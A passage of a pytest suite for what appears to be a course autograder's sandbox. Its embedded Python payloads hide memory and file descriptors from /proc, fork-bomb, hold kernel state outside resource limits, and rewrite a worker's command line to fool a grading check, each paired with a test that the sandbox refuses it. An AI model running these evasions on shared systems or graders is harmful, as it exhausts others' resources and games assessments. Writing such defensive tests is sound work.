print(*outcomes, sep="|")
"""
MAIN_THREAD_ENDED = """
import ctypes, os, threading, time
libc = ctypes.CDLL(None, use_errno=True)
def hide():
    time.sleep(0.5)  # the main thread has ended: /proc/PID/fd lists nothing
    held = [os.memfd_create(f"m{i}") for i in range(8)]
    for fd in held:
        os.write(fd, b"x" * (60 << 20))
    time.sleep(30)
threading.Thread(target=hide).start()
libc.syscall(60, 0)  # SYS_exit: the main thread alone (the worker loop with it)
"""
MAIN_THREADS_ENDED = """
import ctypes, os, threading, time
libc = ctypes.CDLL(None, use_errno=True)
def hold():
    time.sleep(0.3)  # the main thread has ended: /proc/PID/stat shows no resident page
    block = bytearray(60 << 20)
    time.sleep(30)
for _ in range(4):
    if os.fork() == 0:
        threading.Thread(target=hold).start()
        libc.syscall(60, 0)  # SYS_exit: this process's main thread alone
time.sleep(4)
print("4 processes held 60 MiB each")
"""
HIDDEN_FROM_PROC = {"own fd table": (OWN_FD_TABLE, False), "main thread ended": (MAIN_THREAD_ENDED, False),
                    "main threads ended, with processes": (MAIN_THREADS_ENDED, True)}


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and seccomp are Linux's")
@pytest.mark.parametrize("kind", list(HIDDEN_FROM_PROC))
def test_fds_and_memory_of_a_thread_count_wherever_proc_shows_them(kind):
    """Above: memfds past the folder's limit in a thread's own fd table or in a process whose main thread ended, and
    memory past the limit of all processes together in processes whose main threads ended. Safe: the seccomp filter
    refuses an fd table of a thread's own (``unshare(CLONE_FILES)``, a thread cloned without ``CLONE_FILES``), and the
    watches read a process whose main thread ended through a thread still running (``measure_worker._running_thread``):
    the worker is stopped for what it holds."""
    skip_unless_drawn("hidden from /proc/PID", kind, HIDDEN_FROM_PROC)
    code, processes = HIDDEN_FROM_PROC[kind]
    with Sandbox(Policy(scratch_mb=64, memory_mb=200, cell_timeout=5, wall_factor=2, allow_processes=processes)) as box:
        if not confined(box):
            pytest.skip(f"not confined here ({'; '.join(box.isolation)})")
        run = box.run_cell(code, "hidden")
        because = box.killed_because
        box.close()
        report = box.behaviour()
    if kind == "own fd table":
        assert run.ok and run.stdout.strip().split("|") == ["clone:Operation not permitted", "unshare:Operation not permitted"], run
        if report.get("refused") is not None and "refused calls counted by the keeper" in " ".join(box.isolation):
            assert report["refused"].get("unshare(CLONE_FILES)", 0) >= 1, report
            assert report["refused"].get("clone of a thread without CLONE_FILES", 0) >= 1, report
    elif processes:
        assert not run.ok and "held" not in run.stdout and "more than 200 MiB" in because, (run, because)
    else:
        assert not run.ok and "files it holds unlinked or in memory" in because, (run, because)


# ---- 76. storage held by a mapping alone: a page of a memfd or an unlinked file mapped, its fd closed; shared memory --------
#
# Section 53 counts the files a worker's processes hold open that no folder links, by their fds. A file mapped is held by
# the mapping too: a memfd or an unlinked file of the scratch folder written to 30 MiB, one page of it mapped (4 KiB of
# RLIMIT_AS, none resident) and its fd closed is in no fd table, no folder and no resident count: 16 of them held 480 MiB
# past a folder's limit of 64 MiB and a memory limit of 200 MiB, and the cell ran to its end (40,000 mappings of files of
# file_mb each are terabytes: the machine's memory, then the OOM killer's choice). Shared anonymous memory is such a file
# too: 60 MiB mapped and filled, all but a page unmapped, kept its 60 MiB (8 held 480 MiB, /proc/meminfo's Shmem).
# Python's own mmap keeps an fd of the file it maps, as multiprocessing's heap does.
MAPPED_ONLY = """
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
FAILED = (None, ctypes.c_void_p(-1).value)
KIND = {kind!r}
held = 0
for i in range(16):
    if KIND == "shared anonymous":
        address = libc.mmap(None, 30 << 20, 3, 0x01 | 0x20, -1, 0)  # MAP_SHARED | MAP_ANONYMOUS
        if address in FAILED:
            print("mmap:" + os.strerror(ctypes.get_errno()))
            break
        ctypes.memset(address, 1, 30 << 20)
        libc.munmap(address + 4096, (30 << 20) - 4096)  # a page left mapped: the object keeps every page
    else:
        if KIND == "memfd":
            fd = os.memfd_create(f"m{{i}}")
        else:
            fd = os.open(f"f{{i}}", os.O_CREAT | os.O_RDWR)
            os.unlink(f"f{{i}}")
        os.write(fd, b"x" * (30 << 20))
        address = libc.mmap(None, 4096, 0, 0x01, fd, 0)  # PROT_NONE, MAP_SHARED: the mapping holds the file
        os.close(fd)
    held += address not in FAILED
time.sleep(2)
print("held", held, "x 30 MiB")
"""
MAPPED_KINDS = ("memfd", "unlinked file", "shared anonymous")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and seccomp are Linux's")
@pytest.mark.parametrize("kind", MAPPED_KINDS)
def test_files_held_by_a_mapping_alone_count_in_the_scratch_limit(kind):
    """Above: 480 MiB held by mappings of a page each, past the folder's limit and the memory limit, to the cell's end.
    Safe: the look at the folder (twice a second, at most a tenth of a CPU) reads each process's ``maps`` too, and counts
    each memfd or unlinked file of the scratch folder mapped of which no process holds an fd at ``file_mb``, the most it
    can hold (its size cannot be read from outside without privileges: ``measure_worker.held_unlinked_bytes``), so the
    worker is stopped; the seccomp filter refuses shared anonymous memory (``mmap(MAP_SHARED | MAP_ANONYMOUS)``)."""
    skip_unless_drawn("held by a mapping alone", kind, MAPPED_KINDS)
    with Sandbox(Policy(scratch_mb=64, memory_mb=200, file_mb=32, cell_timeout=20)) as box:
        if not confined(box):
            pytest.skip(f"not confined here ({'; '.join(box.isolation)})")
        run = box.run_cell(MAPPED_ONLY.format(kind=kind), "mapped")
        because = box.killed_because
        box.close()
        report = box.behaviour()
    if kind == "shared anonymous":
        assert run.ok and run.stdout.split("\n")[0] == "mmap:Operation not permitted", run
        if "refused calls counted by the keeper" in " ".join(box.isolation):
            assert report["refused"].get("mmap(MAP_SHARED | MAP_ANONYMOUS)", 0) >= 1, report
    else:
        assert not run.ok and "held" not in run.stdout, run
        assert "files it holds unlinked or in memory" in because, because


# ---- 77. a fork bomb on a loaded machine: processes started faster than the watch looks (verify49) ------------------------
# Lab 03's worker may start processes; the keeper's watch killed it once it held more than ``max_processes`` (64), but
# it looks every 0.1 s, and on a machine at load 500-800 a fork bomb held 565 processes (some 1,024 runnable at once)
# before the look that killed it, each a pid of the machine's. Safe: every fork or clone of a process is sent to the
# keeper, which answers EAGAIN (Python's BlockingIOError, as RLIMIT_NPROC would) past ``max_processes`` at once.

FORKS_PAST_THE_BOUND = """
import os, signal, time
children, refused = [], 0
for _ in range(150):
    try:
        pid = os.fork()
    except BlockingIOError:
        refused += 1
        continue
    if pid == 0:
        time.sleep(20)
        os._exit(0)
    children.append(pid)
print(f"forked:{len(children)} refused:{bool(refused)}")
for pid in children:
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="seccomp is Linux's")
def test_a_fork_bomb_holds_no_more_processes_than_the_bound_whatever_the_watch_sees():
    """150 forks in a row, each child left asleep: at most ``max_processes`` (64) are made, the rest refused with EAGAIN
    and counted by the keeper, and the worker goes on (on main all 150 were made before the watch killed the worker,
    or were all made: the watch looks every 0.1 s)."""
    with Sandbox(Policy(cell_timeout=30, allow_processes=True)) as box:
        if not confined(box) or not any("refused calls counted by the keeper" in line for line in box.isolation):
            pytest.skip(f"the keeper answers no forks here ({'; '.join(box.isolation)})")
        run = box.run_cell(FORKS_PAST_THE_BOUND, "a fork bomb")
        box.close()
        report = box.behaviour()
    assert run.ok, run
    forked, refused = (part.split(":")[1] for part in run.stdout.split())
    assert int(forked) <= 64 and refused == "True", run
    assert report["refused"].get("fork(a process past 64 at once)", 0) >= 1, report


# ---- 78. red50: POSIX message queues, timers and record locks: kernel state outside every limit of the worker's -------------
#
# Section 54 refused System V IPC and the keyrings, whose objects outlive the worker, and section 74 the calls that make
# kernel memory as often as they are called. Their POSIX kin were let through. ``mq_open`` makes a queue in the machine's
# IPC namespace (the worker has none of its own) that outlives the worker, no folder and no limit of its (found in
# /dev/mqueue after the sandbox closed), up to the machine's ``fs.mqueue.queues_max`` (256) and the grading account's
# ``RLIMIT_MSGQUEUE``: a channel between two submissions of a class, and every other grading's allowance. Each POSIX
# timer (``timer_create``) is kernel memory charged to the account's pending signals (``ulimit -i``, shared by every
# process of the grading user): 20,000 made in a cell. Each record lock (``fcntl`` F_SETLK, F_OFD_SETLK) on a byte range
# apart from the others is some 200 bytes of the kernel's slab, kept while the file is open: 400,000 on 200 files of the
# scratch folder (4.6 s of CPU time, niced) with 20,000 timers held 82 MiB of slab, in no resident count, no folder and no
# queue; 1,024 fds make 2 million (400 MiB) a process, 64 of lab 03's processes the machine's memory.
POSIX_KERNEL_STATE = """
import ctypes, errno, fcntl, os, platform
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
MQ_OPEN, TIMER_CREATE = {"x86_64": (240, 222), "aarch64": (180, 107)}[platform.machine()]
def outcome(call, result):
    return f"{call}:" + ("made" if result >= 0 else errno.errorcode.get(ctypes.get_errno(), "?"))
outcomes = []
name = f"bpe_ref_red50_{os.getpid()}".encode()
queue = libc.syscall(MQ_OPEN, name, os.O_CREAT | os.O_RDWR, 0o600, None)
outcomes.append(outcome("mq_open", queue))
class Sigevent(ctypes.Structure):
    _fields_ = [("value", ctypes.c_void_p), ("signo", ctypes.c_int), ("notify", ctypes.c_int), ("pad", ctypes.c_int * 12)]
timer = ctypes.c_int()
outcomes.append(outcome("timer_create", libc.syscall(TIMER_CREATE, 1, ctypes.byref(Sigevent(None, 0, 1)), ctypes.byref(timer))))
fd = os.open("locked", os.O_CREAT | os.O_RDWR)
for command, call in ((fcntl.F_SETLK, "F_SETLK"), (getattr(fcntl, "F_OFD_SETLK", 37), "F_OFD_SETLK")):
    try:
        fcntl.fcntl(fd, command, bytes(32))  # struct flock: F_RDLCK (0) of the whole file, from its start
        outcomes.append(f"{call}:made")
    except OSError as error:
        outcomes.append(f"{call}:" + errno.errorcode.get(error.errno, "?"))
print(*outcomes)
print(name.decode())
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="seccomp is Linux's")
@pytest.mark.parametrize("processes", [False, True], ids=["alone", "with processes"])
def test_posix_queues_timers_and_record_locks_are_refused(processes):
    """A cell made a POSIX message queue (left in the machine's IPC namespace once the worker ended), a POSIX timer and
    two record locks: each the first of as many as a cell likes, kernel state that no limit of the worker's counts
    (above). Safe: the seccomp filter refuses ``mq_open``, ``timer_create`` and ``fcntl``'s record locks (F_SETLK,
    F_SETLKW, F_OFD_SETLK, F_OFD_SETLKW; ``flock``, one lock an open file, is left: fds are bounded) in every lab
    (``confinement._POSIX_KERNEL_STATE_CALLS``, ``_RECORD_LOCKS``), counted by the keeper. No lab's code, nor the
    standard library a lab uses (multiprocessing's semaphores are files of /dev/shm and futexes), calls them."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    with Sandbox(Policy(cell_timeout=20, allow_processes=processes)) as box:
        if not confined(box):
            pytest.skip(f"not confined here ({'; '.join(box.isolation)})")
        run = box.run_cell(POSIX_KERNEL_STATE, "posix kernel state")
        box.close()
        report, isolation = box.behaviour(), box.isolation
    lines = run.stdout.split("\n")
    if len(lines) > 1 and lines[1]:
        libc.mq_unlink(b"/" + lines[1].encode())  # what the worker left in the machine's IPC namespace, if it could
    assert run.ok and lines[0].split() == ["mq_open:EPERM", "timer_create:EPERM", "F_SETLK:EPERM", "F_OFD_SETLK:EPERM"], run
    if any("refused calls counted by the keeper" in line for line in isolation):
        refused = ["mq_open", "timer_create", "fcntl(F_SETLK)", "fcntl(F_OFD_SETLK)"]
        assert all(report["refused"].get(name, 0) >= 1 for name in refused), report


# ---- 79. red50: files of the machine's /dev/shm, held by a name or a mapping alone -------------------------------------------
#
# Where the kernel gives the worker no /dev/shm of its own (no unprivileged user namespaces, or ``shm_mb`` 0), lab 03's
# worker makes its files in the machine's: the keeper makes each for it and removes them at the end (section 13). Until
# then nothing bounded them but RLIMIT_FSIZE each: section 76 counts memfds and unlinked files of the scratch folder held
# by a mapping alone, not those of /dev/shm, and no walk lists /dev/shm. 16 files of 30 MiB each, kept by their names or
# each by a page mapped once its fd was closed and its name unlinked, held 480 MiB of the machine's memory past a
# folder's limit of 64 MiB and a memory limit of 200 MiB, and the cell ran to its end (as many more as a cell likes).
SHM_HELD = """
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
KIND = {kind!r}
held = 0
mib = b"x" * (1 << 20)
for i in range(16):
    name = f"/dev/shm/bpe_ref_red50_{token}_{{i}}"
    fd = os.open(name, os.O_CREAT | os.O_RDWR, 0o600)
    for _ in range(30):  # a MiB at a time, paced: the keeper's bound, not the worker's memory, is what this run meets
        os.write(fd, mib)
        time.sleep(0.003)
    if KIND == "mapped alone":
        libc.mmap(None, 4096, 0, 0x01, fd, 0)  # PROT_NONE, MAP_SHARED: the mapping holds the file
        os.unlink(name)
    os.close(fd)
    held += 1
time.sleep(2)
print("held", held, "x 30 MiB")
"""
HONEST_SEMAPHORES = """
import multiprocessing
locks = [multiprocessing.get_context("fork").Lock() for _ in range(20)]  # each a file of /dev/shm, unlinked, mapped
with multiprocessing.get_context("fork").Pool(2) as pool:
    print(sum(pool.map(abs, range(-50, 50))))
"""
SHM_KINDS = ("linked", "mapped alone")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and seccomp are Linux's")
@pytest.mark.parametrize("kind", SHM_KINDS)
def test_files_the_keeper_makes_in_the_machine_s_shm_are_bounded(kind):
    """Above: 480 MiB in files of the machine's /dev/shm, by their names or by a mapping of a page each, to the cell's
    end. Safe: the keeper holds each file it makes there (``keeper._KeptShmFiles``) and adds up their blocks at each of
    its looks (ten a second), letting go those no name links and no process of the worker's holds or maps; past
    ``shm_mb`` (``file_mb`` where no /dev/shm of the worker's own was asked for) the worker is stopped. An honest pool's
    20 semaphores (unlinked at once, mapped) still run."""
    skip_unless_drawn("held in the machine's /dev/shm", kind, SHM_KINDS)
    policy = Policy(scratch_mb=64, memory_mb=200, file_mb=32, cell_timeout=20, wall_factor=3, allow_processes=True, shm_mb=0)
    with Sandbox(policy) as box:
        if not confined(box) or not any("the keeper makes the files" in line for line in box.isolation):
            pytest.skip(f"the keeper makes no files in the machine's /dev/shm here ({'; '.join(box.isolation)})")
        honest = box.run_cell(HONEST_SEMAPHORES, "honest semaphores")
        # names of this run's own (another run's, a concurrent test's, are not this test's)
        token = f"{os.getpid()}_{time.monotonic_ns()}"
        run = box.run_cell(SHM_HELD.format(kind=kind, token=token), "held in /dev/shm")
        because = box.killed_because
        box.close()
        report = box.behaviour()
    assert honest.ok and honest.stdout.split() == ["2500"], honest
    left = sorted(name for name in os.listdir("/dev/shm") if name.startswith(f"bpe_ref_red50_{token}_"))
    for name in left:  # (so that a failure here leaves none for the next run)
        with contextlib.suppress(OSError):
            os.unlink(f"/dev/shm/{name}")
    # /dev/shm left as it was, whatever the load: the keeper removes the files it made as soon as it stops the worker,
    # before the kill (section 87)
    assert left == [], (left, report, because, run)
    assert not run.ok and "held" not in run.stdout, run
    # On a loaded machine (load 13 on 2 cores here) the keeper's report may come after the trusted side's 10 s: it is
    # then lost (a review line of its own); else it names the bound.
    if not report.get("report_lost"):
        assert "files in /dev/shm held more than 32 MiB" in report["reason"], (report, because, run)


# ---- 80. red50: a forked worker's command line rewritten as a spawned one's ---------------------------------------------------
#
# Lab 03's task 4 is measured from outside: the processes a call started, each told spawned, forkserver's or forked by its
# command line (/proc/PID/cmdline). That is the process's own memory, its argv strings, which its code can rewrite in
# place (glibc's ``program_invocation_name`` points at them; ``sys.orig_argv`` gives their length). A
# count_pretokens_in_file that ignores start_method and forks its pool, each worker writing "spawn_main" (or
# forkserver's main) over its command line in the pool's initializer, passed verify_worker_processes for every start
# method (4 of 4 hidden points); without the rewrite it fails ("started its processes 2 by fork, none by spawn").
SEEM_STARTED_BY = '''
import ctypes as _ctypes
import os
import sys


def _seem_started_by(method):
    """In a forked worker: its command line rewritten in place, as a spawned (or forkserver's) worker's reads."""
    start = _ctypes.c_void_p.in_dll(_ctypes.CDLL(None), "program_invocation_name").value  # argv[0], the strings' start
    end = start + sum(len(os.fsencode(argument)) + 1 for argument in sys.orig_argv)
    text = {"spawn": b"python -c from multiprocessing.spawn import spawn_main; spawn_main() --multiprocessing-fork",
            "forkserver": b"python -c from multiprocessing.forkserver import main; main()"}.get(method)
    if text:
        text = text[: end - start - 1].ljust(end - start - 1, b" ") + b"\\0"
        _ctypes.memmove(start, text, len(text))
'''
FORKED_WHATEVER_THE_METHOD = (
    "context = multiprocessing.get_context(start_method)\n"
    "    with ProcessPoolExecutor(max_workers=num_workers, mp_context=context) as pool:",
    "context = multiprocessing.get_context('fork')  # start_method ignored\n"
    "    with ProcessPoolExecutor(max_workers=num_workers, mp_context=context, initializer=_seem_started_by,\n"
    "                             initargs=(start_method,)) as pool:")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc is Linux's")
def test_a_forked_pool_whose_command_lines_say_spawn_loses_lab_03_task_4():
    """Above: a pool forked whatever start_method asks, its workers' command lines rewritten as spawn's, kept task 4's
    method check. Safe: a process is told by where its command line lies (``arg_start``, ``arg_end`` of
    /proc/PID/stat), which the kernel sets at a program's start and a fork keeps: a process whose range is the
    worker's is a copy of it, forked, whatever its command line says (``measure_worker.start_method_of``); the filter
    refuses ``prctl(PR_SET_MM)``, which would move the range (``test_a_process_moves_no_command_line_of_its_own``)."""
    from test_mistakes import remote, source_of

    setup = ("import multiprocessing, os\nfrom concurrent.futures import ProcessPoolExecutor\n"
             "from bpe_ref.pretokenize import count_pretokens\n"
             + source_of("03_parallel", "task1_find_chunk_boundaries_solution") + "\n"
             + source_of("03_parallel", "task3_merge_counts_solution") + "\n")
    module = source_of("03_parallel", "task2_count_chunk_solution").split("\n", 1)[1]
    solution = source_of("03_parallel", "task4_count_pretokens_in_file_solution")
    assert FORKED_WHATEVER_THE_METHOD[0] in solution
    code = ("get_ipython().run_cell_magic('writefile', 'chunk_counting.py', " + repr(module) + ")\n"
            "from chunk_counting import count_chunk\n" + setup + SEEM_STARTED_BY
            + solution.replace(*FORKED_WHATEVER_THE_METHOD))
    message = remote("03_parallel", code, "count_pretokens_in_file", "verify_worker_processes")
    assert message is not None and "by fork, none by" in message, message


MOVED_COMMAND_LINE = """
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
mapped = (ctypes.c_uint64 * 16)()  # struct prctl_mm_map, all zero: refused by the filter, or found invalid (EINVAL)
result = libc.prctl(35, 14, ctypes.byref(mapped), ctypes.sizeof(mapped), 0)  # PR_SET_MM, PR_SET_MM_MAP
print("made" if result == 0 else errno.errorcode.get(ctypes.get_errno(), "?"))
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="seccomp is Linux's")
@pytest.mark.parametrize("processes", [False, True], ids=["alone", "with processes"])
def test_a_process_moves_no_command_line_of_its_own(processes):
    """``prctl(PR_SET_MM, PR_SET_MM_MAP)`` needs no capability (checkpoint-restore tools call it unprivileged) and sets
    where the kernel reads a process's command line: a forked worker could point it at a spawned one's text, and the
    range would no longer be the worker's (above). Safe: the filter refuses ``PR_SET_MM`` (EPERM, counted by the
    keeper) before the kernel looks at the map (EINVAL for this empty one, before)."""
    with Sandbox(Policy(cell_timeout=20, allow_processes=processes)) as box:
        if not confined(box):
            pytest.skip(f"not confined here ({'; '.join(box.isolation)})")
        run = box.run_cell(MOVED_COMMAND_LINE, "moved command line")
        box.close()
        report, isolation = box.behaviour(), box.isolation
    assert run.ok and run.stdout.split() == ["EPERM"], run
    if any("refused calls counted by the keeper" in line for line in isolation):
        assert report["refused"].get("prctl(PR_SET_MM)", 0) >= 1, report


# ---- 81. red50: extended attributes, kernel memory of a file that shows no bytes ----------------------------------------------
#
# tmpfs keeps a file's user extended attributes (Linux 6.6+) in kernel memory, up to a page each, as many as the mount's
# inode space allows, and without bound on the kernel's own tmpfs that backs memfds (no inode limit). Neither the file's
# size nor its blocks show them, so no watch counted them: 50,000 attributes of 3,900 bytes set on one memfd in 0.4 s of
# CPU time held 195 MiB of slab past a memory limit of 200 MiB and a folder's limit of 64 MiB, in every lab, and the same
# on files of a scratch folder on tmpfs (/tmp is one on many distributions) or of lab 03's /dev/shm.
EXTENDED_ATTRIBUTES = """
import errno, os
outcomes = []
memfd = os.memfd_create("attributes")
with open("attributes", "w") as file:
    pass
for call, target in (("fsetxattr", memfd), ("setxattr", "attributes")):
    try:
        os.setxattr(target, "user.held", b"v" * 3900)
        outcomes.append(f"{call}:made")
    except OSError as error:
        outcomes.append(f"{call}:" + errno.errorcode.get(error.errno, "?"))
print(*outcomes)
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="seccomp is Linux's")
@pytest.mark.parametrize("processes", [False, True], ids=["alone", "with processes"])
def test_extended_attributes_are_refused(processes):
    """Above: 195 MiB of kernel memory in one memfd's attributes, past every limit. Safe: the filter refuses
    ``setxattr``, ``lsetxattr``, ``fsetxattr`` and ``setxattrat`` (EPERM, which ``shutil.copystat`` passes over),
    counted by the keeper; no lab's code sets one. (Before, a filesystem without user attributes answered ENOTSUP:
    ext4 and tmpfs here made both.)"""
    with Sandbox(Policy(cell_timeout=20, allow_processes=processes)) as box:
        if not confined(box):
            pytest.skip(f"not confined here ({'; '.join(box.isolation)})")
        run = box.run_cell(EXTENDED_ATTRIBUTES, "extended attributes")
        box.close()
        report, isolation = box.behaviour(), box.isolation
    assert run.ok and run.stdout.split() == ["fsetxattr:EPERM", "setxattr:EPERM"], run
    if any("refused calls counted by the keeper" in line for line in isolation):
        assert report["refused"].get("fsetxattr", 0) >= 1 and report["refused"].get("setxattr", 0) >= 1, report


# ---- 82. red50: another grading's files in the machine's /dev/shm, opened or unlinked -------------------------------------------
#
# Where lab 03's worker has no /dev/shm of its own, the keeper makes its files in the machine's and removes only those at
# the end (section 13), but the worker could still open and unlink any file there (Landlock's rights on /dev/shm are a
# folder's): a grading running beside another (``autograde --jobs``, or two courses) read a file the other made there,
# and unlinked it; a pool's semaphore (``sem.mp-...``, which multiprocessing unlinks right after making it) unlinked
# first makes the pool's own unlink raise, so a classmate's honest pool could be broken by a loop that lists /dev/shm.
ANOTHER_S_SHM = """
import errno, os
name = {name!r}
outcomes = []
try:
    with open(name, "rb") as file:
        outcomes.append("read:" + file.read().decode())
except OSError as error:
    outcomes.append("read:" + errno.errorcode.get(error.errno, "?"))
for how, flags in (("write", os.O_WRONLY | os.O_TRUNC), ("create", os.O_CREAT | os.O_RDWR)):
    try:
        os.close(os.open(name, flags))
        outcomes.append(how + ":opened")
    except OSError as error:
        outcomes.append(how + ":" + errno.errorcode.get(error.errno, "?"))
for how, call in (("link", lambda: os.link(name, name + "_b")), ("unlink", lambda: os.unlink(name))):
    try:
        call()
        outcomes.append(how + ":done")
    except OSError as error:
        outcomes.append(how + ":" + errno.errorcode.get(error.errno, "?"))
print(*outcomes)
"""
OWN_SHM = """
import os
name = {name!r}
with open(name, "w") as file:  # made by the keeper, this worker's: opened again, truncated, unlinked
    file.write("secret")
with open(name) as file:
    again = file.read()
with open(name, "w") as file:
    pass
os.unlink(name)
print(again, os.path.exists(name))
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and seccomp are Linux's")
def test_a_grading_opens_and_unlinks_no_other_grading_s_files_in_the_machine_s_shm():
    """Two gradings at once, neither with a /dev/shm of its own: B read A's file there, truncated it, linked it to a
    name of its own and unlinked it.
    Safe: in the machine's /dev/shm the keeper makes every open (with O_CREAT or not), link and unlink itself, of the
    files it made for its worker and still holds only (``keeper._FileWatch._open_ours``); another's is refused with
    EACCES, counted ("open or unlink of another grading's file in /dev/shm"), and left as it was. A's own file is
    opened again, truncated and unlinked as before, and an honest pool's semaphores still work."""
    import secrets

    name = f"/dev/shm/bpe_ref_red50_{secrets.token_hex(4)}"
    policy = Policy(cell_timeout=20, allow_processes=True, shm_mb=0)
    try:
        with Sandbox(policy) as a, Sandbox(policy) as b:
            if not confined(a) or not any("the keeper makes the files" in line for line in a.isolation):
                pytest.skip(f"the keeper makes no files in the machine's /dev/shm here ({'; '.join(a.isolation)})")
            own = a.run_cell(OWN_SHM.format(name=name), "own")
            made = a.run_cell(f"with open({name!r}, 'w') as file:\n    file.write('secret')\n", "made")
            other = b.run_cell(ANOTHER_S_SHM.format(name=name), "another's")
            honest = b.run_cell(HONEST_SEMAPHORES, "honest semaphores")
            left = open(name).read() if os.path.exists(name) else None
            b.close()
            report = b.behaviour()
    finally:
        for path in (name, name + "_b"):
            with contextlib.suppress(OSError):
                os.unlink(path)
    assert own.ok and own.stdout.split() == ["secret", "False"], own
    assert made.ok and honest.ok and honest.stdout.split() == ["2500"], (made, honest)
    assert other.ok and other.stdout.split() == ["read:EACCES", "write:EACCES", "create:EACCES", "link:EACCES",
                                             "unlink:EACCES"], other
    assert left == "secret" and not os.path.exists(name + "_b"), left
    assert report["refused"].get("open or unlink of another grading's file in /dev/shm", 0) >= 5, report


# ---- 83. red50: huge pages of the kernel's pool (hugetlb), in no resident count ------------------------------------------------
#
# A mapping of hugetlb pages (``mmap(MAP_HUGETLB)``, or a memfd made with ``MFD_HUGETLB``) takes pages of the machine's
# reserved pool (``vm.nr_hugepages``, which an administrator sets for a database or a VM), not counted in a process's
# resident memory (``/proc/PID/stat``): each of lab 03's processes could take up to its RLIMIT_AS of the pool, past the
# memory limit of all of them together, and the pool's other users then fail. No pool here (nr_hugepages 0: the mmap
# answers ENOMEM), but the memfd is made. No lab's code asks for huge pages (transparent ones are resident and counted).
HUGE_PAGES = """
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
outcomes = []
address = libc.mmap(None, 2 << 20, 3, 0x02 | 0x20 | 0x40000, -1, 0)  # MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB
outcomes.append("mmap:" + ("made" if address not in (None, ctypes.c_void_p(-1).value) else errno.errorcode.get(ctypes.get_errno(), "?")))
try:
    os.close(os.memfd_create("huge", 4))  # MFD_HUGETLB
    outcomes.append("memfd_create:made")
except OSError as error:
    outcomes.append("memfd_create:" + errno.errorcode.get(error.errno, "?"))
print(*outcomes)
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="seccomp is Linux's")
@pytest.mark.parametrize("processes", [False, True], ids=["alone", "with processes"])
def test_huge_pages_of_the_kernel_s_pool_are_refused(processes):
    """Above: hugetlb pages, in no resident count. Safe: the filter refuses ``mmap`` with ``MAP_HUGETLB`` and
    ``memfd_create`` with ``MFD_HUGETLB`` (EPERM), counted by the keeper."""
    with Sandbox(Policy(cell_timeout=20, allow_processes=processes)) as box:
        if not confined(box):
            pytest.skip(f"not confined here ({'; '.join(box.isolation)})")
        run = box.run_cell(HUGE_PAGES, "huge pages")
        box.close()
        report, isolation = box.behaviour(), box.isolation
    assert run.ok and run.stdout.split() == ["mmap:EPERM", "memfd_create:EPERM"], run
    if any("refused calls counted by the keeper" in line for line in isolation):
        assert report["refused"].get("mmap(MAP_HUGETLB)", 0) >= 1, report
        assert report["refused"].get("memfd_create(MFD_HUGETLB)", 0) >= 1, report


# ---- 80, continued (red50): the class path of section 80's pool ------------------------------------------------------------------


def test_a_forked_pool_whose_command_lines_say_spawn_costs_its_class_task_4_only():
    """Section 80's pool in the whole notebook as a class grades it (``whole_class=True``, its hidden inputs replayed):
    task 4's hidden test fails for the start method (its workers forked, none by spawn), every other task keeps its
    points (on main all passed)."""
    from bpe_ref.course.notebooks import read_notebook_json, source_notebook

    notebook = read_notebook_json(source_notebook("03_parallel"))
    for cell in notebook["cells"]:
        if cell["id"] == "task4_count_pretokens_in_file_solution":
            source = "".join(cell["source"])
            assert FORKED_WHATEVER_THE_METHOD[0] in source
            cell["source"] = SEEM_STARTED_BY + "\n" + source.replace(*FORKED_WHATEVER_THE_METHOD)
    record = grade_cells(notebook["cells"], "03_parallel", whole_class=True)
    failed = {verdict.grade_id: verdict.message for verdict in record.verdicts if not verdict.passed}
    assert set(failed) == {"task4_count_pretokens_in_file_hidden"}, failed
    assert "by fork, none by" in failed["task4_count_pretokens_in_file_hidden"], failed


# ---- 84. a heap kept as a plain list in lab 05's train: sorted again per push, or scanned per pop (sorted50) ----------
#
# Beside the list kept sorted by insort (the open xfail above, a memmove per entry), two plain lists a learner may take
# for a heap: sorted again after each push (entries.sort(), O(H) comparisons per push, not a memmove) and popped from the
# front, or scanned with min() and remove() per pop. Both cost the measured corpus's merges far past the bound (in the
# worker: stopped past 1.7 s of CPU time where the reference's 1,400 merges took 0.21 s, and past 1.5 times the one-merge
# run): caught by verify_merge_cost as it is; these keep them caught.


def list_heap_v5(kind: str) -> str:
    """The course's V5 (tasks 2 and 3) with a plain list for its heap: ``"sorted-per-push"`` (entries.sort() after each
    push, pop(0)) or ``"min-per-pop"`` (min() and remove() per pop, append per push), its pop named list_pop."""
    from test_mistakes import source_of

    pop, train = source_of("05_heap", "task2_pop_best_solution"), source_of("05_heap", "task3_train_solution")
    pop_push, train_push = "heapq.heappush(entries, heap_entry(count, pair))", "heapq.heappush(entries, heap_entry(pair_counts["
    if kind == "sorted-per-push":
        pop_edits = (("heapq.heappop(entries)", "entries.pop(0)"),
                     (pop_push, "entries.append(heap_entry(count, pair))\n            entries.sort()"))
